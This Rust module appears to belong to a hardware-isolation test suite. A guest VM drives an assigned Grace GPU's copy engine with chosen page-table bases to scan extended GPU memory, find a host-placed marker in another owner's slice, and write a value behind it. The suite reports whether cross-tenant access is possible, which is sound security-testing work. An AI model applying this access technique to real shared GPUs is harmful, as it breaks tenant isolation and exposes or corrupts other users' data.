//! Claim: the engine of an assigned Grace GPU (`vfio/fixtures`) reads and writes a slice of EGM that another owner has.
//!
//! This guest is the attacker and needs no slice of its own. It uses page table entries as NVIDIA's driver computes them: the
//! physical address of a page minus a base that the guest chooses, so any offset in the region. It looks for [`MARK`], which
//! the host leaves in the other slice once this check prints [`WAITS`], and writes [`ANSWER`] behind it.

use std::io::Write;
use std::time::{Duration, Instant};

use super::Context;
use super::functions::{self, OWN};
use crate::error::Broken;
use crate::finding::{Claim, Finding};

/// Address bit of the engine: an offset in EGM.
const EGM: u64 = 1 << 62;
/// Distance between the pages that are read: slices begin at multiples of it.
const STEP: u64 = 2 << 20;
/// First word of the other slice, and the second, which this check writes.
const MARK: u64 = 0x7275_6f62_6867_6965;
const ANSWER: u64 = 0x6465_6863_6165_7221;
/// Standard error is the console; standard output is the report.
const WAITS: &[u8] = b"egm-aperture waits\n";
/// The host takes a slice meanwhile, under emulation.
const TIMEOUT: Duration = Duration::from_secs(180);

pub(super) fn run(context: &Context) -> Result<Finding, Broken> {
    let functions = functions::all(&context.plan)?;
    let Some(gpu) = functions.first() else {
        return Ok(Finding::skipped("the guest has no function with a copy engine"));
    };
    let mut claim = Claim::default();
    if !gpu.copy(EGM, OWN)? {
        return Ok(Finding::skipped("the function has no aperture on EGM"));
    }
    let _ = std::io::stderr().write_all(WAITS);
    let begun = Instant::now();
    let mut found = None;
    while found.is_none() && begun.elapsed() < TIMEOUT {
        for offset in (0..).step_by(usize::try_from(STEP).unwrap_or(usize::MAX)) {
            // The end of the region.
            if !gpu.copy(EGM | offset, OWN)? {
                break;
            }
            if gpu.memory.read(0) == MARK {
                found = Some(offset);
                break;
            }
        }
    }
    claim.holds(found.is_some(), || "the GPU reads no page of another owner");
    if let Some(offset) = found {
        gpu.memory.write(8, ANSWER);
        claim.holds(gpu.copy(OWN, EGM | offset)?, || "the GPU does not write there");
        claim.seen(format!("another owner's page at {offset:#x} of the region"));
    }
    Ok(claim.finish())
}
